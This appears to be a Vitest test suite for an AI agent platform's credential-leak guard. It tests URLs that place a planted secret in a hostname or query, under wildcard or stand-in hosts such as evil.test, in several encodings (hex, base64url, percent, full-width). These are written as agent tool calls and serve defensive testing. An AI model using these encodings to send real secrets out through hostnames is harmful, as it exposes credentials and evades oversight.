import type { LookupFunction } from "node:net";
import { beforeEach, describe, expect, it } from "vitest";
import { startNetworkWorld } from "./support/network-world.ts";

const VALUE = "Sk-Planted-0a1b2c3d";
const BOUND = "bound-elsewhere-77";

const asked: string[] = [];
const lookup: LookupFunction = (hostname, _options, callback) => {
  asked.push(hostname);
  callback(null, [{ address: "127.0.0.1", family: 4 }]);
};

const world = await startNetworkWorld({ lookup });
const { service } = world;
const wild = { name: "wild", allowedDomains: ["*.wild.test"], ports: [service.port, 443] };
await world.call("createIntegration", { body: wild });
await world.secret("LEAKED", VALUE);
await world.secret("BOUND", BOUND, { hosts: ["*.elsewhere.test"] });
const agent = await world.agent({
  integrations: ["wild", "webhook"],
  credentials: ["LEAKED", "BOUND"],
  tools: ["http_get", "api_call", "webhook", "url_fetch"].map((builtin) => ({ builtin })),
});

beforeEach(() => {
  asked.length = 0;
  service.requests.length = 0;
});

const fullWidth = (text: string) =>
  text.replace(/[!-~]/g, (character) => String.fromCharCode(character.charCodeAt(0) + 0xfee0));
const percent = (text: string) => Buffer.from(text).toString("hex").replace(/../g, "%$&");

describe("a secret in the host of an approved wildcard", () => {
  it.each<[string, string]>([
    ["as it is", VALUE],
    ["in lower case", VALUE.toLowerCase()],
    ["in upper case", VALUE.toUpperCase()],
    ["as hex", Buffer.from(VALUE).toString("hex")],
    ["as base64url, which is lower case then", Buffer.from(VALUE).toString("base64url").toLowerCase()],
    ["percent-encoded", percent(VALUE)],
    ["percent-encoded, in upper case", percent(VALUE.toUpperCase())],
    ["in full-width characters", fullWidth(VALUE)],
  ])("%s is a leak, which nobody is asked about and the record does not hold", async (_form, label) => {
    const written = `https://a-${label}.wild.test/orders?x=1`;
    const call = await world.one(agent, "http_get", { url: written });
    expect(call).toMatchObject({
      status: "failed",
      blocked: true,
      blockReason: "credential_leak",
      error: { code: "CREDENTIAL_LEAK", outcome: "none" },
    });
    const recorded = /^https:\/\/[^/]*\*\*\*LEAKED\*\*\*[^/]*\/orders\?x=1$/;
    expect(call.parameters).toEqual({ url: expect.stringMatching(recorded) });
    expect(asked).toEqual([]);
    expect(service.requests).toEqual([]);
    const summarised = await (await world.open("followExecution", { params: { id: call.executionId } })).text();
    for (const form of [label, label.toLowerCase(), new URL(written).hostname]) {
      expect(JSON.stringify(call) + summarised).not.toContain(form);
    }
  });

  it.each<[string, string, object]>([
    ["a host that is approved nowhere", "http_get", { url: `https://${VALUE}.evil.test/` }],
    ["a host that is none", "http_get", { url: `https://${VALUE} x.wild.test/` }],
    ["a port that is not open", "http_get", { url: `https://${VALUE}.wild.test:9/` }],
    ["a user beside it", "http_get", { url: `https://a:b@${VALUE}.wild.test/` }],
    [
      "a credential for another host",
      "api_call",
      { method: "GET", url: `https://${VALUE}.wild.test/`, credential: "BOUND" },
    ],
    ["an unknown credential", "api_call", { method: "GET", url: `https://${VALUE}.wild.test/`, credential: "NOBODY" }],
    ["another host's webhook", "webhook", { url: `https://${VALUE}.wild.test/` }],
    ["a page", "url_fetch", { url: `https://${VALUE}.wild.test/` }],
  ])("comes before %s", async (_what, name, parameters) => {
    const call = await world.one(agent, name, { ...parameters });
    expect(call).toMatchObject({ blockReason: "credential_leak", error: { code: "CREDENTIAL_LEAK" } });
    expect(asked).toEqual([]);
  });

  it("comes after a missing credential", async () => {
    const call = await world.one(agent, "api_call", { method: "GET", url: `https://${VALUE}.wild.test/` });
    expect(call.error).toMatchObject({ code: "CREDENTIAL_MISSING" });
  });

  it("is not what a host beside it is: its path is judged after the URL", async () => {
    const call = await world.one(agent, "http_get", { url: `https://evil.test/${VALUE}` });
    expect(call.error).toMatchObject({ code: "URL_BLOCKED" });
  });
});

it("a page is not fetched by a URL in which a secret stood", async () => {
  const call = await world.one(agent, "url_fetch", { url: `https://api.wild.test/?key=${VALUE}` });
  expect(call).toMatchObject({ blockReason: "credential_leak", error: { code: "CREDENTIAL_LEAK" } });
  expect(asked).toEqual([]);
});

it("a host that holds none of them is asked", async () => {
  const call = await world.one(agent, "http_get", { url: service.url("/", "Sk-Planted-0a1b2c3.wild.test") });
  expect(call).toMatchObject({ status: "completed" });
  expect(asked).toEqual(["sk-planted-0a1b2c3.wild.test"]);
});
